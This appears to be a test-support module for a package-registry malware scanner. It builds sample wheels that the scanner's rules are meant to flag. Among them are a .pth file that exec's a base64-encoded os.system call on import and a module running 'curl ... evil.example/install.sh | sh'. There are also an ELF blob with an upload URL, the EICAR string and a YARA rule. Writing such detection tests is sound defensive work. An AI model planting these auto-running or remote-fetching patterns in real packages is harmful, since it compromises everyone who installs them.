"""Wheels with known-bad patterns (and a clean one) for the security tests."""

from __future__ import annotations

import base64
from pathlib import Path

from tests.support.dists import build_wheel

__all__ = [
    "DROPPER_MARKER",
    "DROPPER_RULE",
    "EICAR",
    "bad_wheels",
    "clean_wheel",
    "dropper_source",
    "dropper_wheel",
    "elf_with_url",
]

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

DROPPER_MARKER = b"PYREGISTRY-TEST-DROPPER-7f3a9c"
DROPPER_RULE = f"""
rule pyregistry_test_dropper {{
    meta:
        description = "test marker of a dropper"
        severity = "critical"
    strings:
        $marker = "{DROPPER_MARKER.decode()}"
    condition:
        $marker
}}
"""
"""A YARA rule of the tests' own (critical) that matches :data:`DROPPER_MARKER`; rule id
``yara/pyregistry_test_dropper``."""


def dropper_source() -> bytes:
    """The module source of :func:`dropper_wheel`."""
    return f"PAYLOAD = {DROPPER_MARKER.decode()!r}\n".encode()


def dropper_wheel(out: Path, name: str, extra_files: dict[str, bytes] | None = None) -> Path:
    """A wheel 1.0.0 whose module holds :data:`DROPPER_MARKER` (plus ``extra_files``)."""
    return build_wheel(out, name, "1.0.0", module_source=dropper_source().decode(), extra_files=extra_files)


def elf_with_url(url: bytes = b"http://collector.example.net/upload") -> bytes:
    """A minimal 64-bit ELF header followed by padding and a URL string."""
    header = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40
    return header + b"\x00" * 64 + url + b"\x00" * 16


def clean_wheel(out: Path) -> Path:
    """A harmless pure-Python wheel."""
    source = '"""Greeting helpers."""\n\n\ndef greet(name: str) -> str:\n    return f"hello {name}"\n'
    return build_wheel(out, "tidy-greeter", "1.0.0", module_source=source)


def bad_wheels(out: Path) -> dict[str, Path]:
    """One wheel per known-bad pattern, keyed by the rule that must flag it."""
    payload = base64.b64encode(b"import os; os.system('id')").decode()
    pth = f"import base64; exec(base64.b64decode('{payload}'))\n".encode()
    return {
        "PTH-EXECUTES-CODE": build_wheel(out / "pth", "pth-hook", "1.0.0", extra_files={"pth_hook_init.pth": pth}),
        "PY-SHELL-NETWORK": build_wheel(
            out / "shell",
            "shell-hook",
            "1.0.0",
            module_source='import os\n\nos.system("curl -s https://evil.example/install.sh | sh")\n',
        ),
        "BIN-NETWORK-STRING": build_wheel(
            out / "elf", "elf-payload", "1.0.0", extra_files={"elf_payload/helper.bin": elf_with_url()}
        ),
        "yara/pyregistry_eicar_test_file": build_wheel(
            out / "eicar", "eicar-carrier", "1.0.0", extra_files={"eicar_carrier/data.txt": EICAR}
        ),
    }
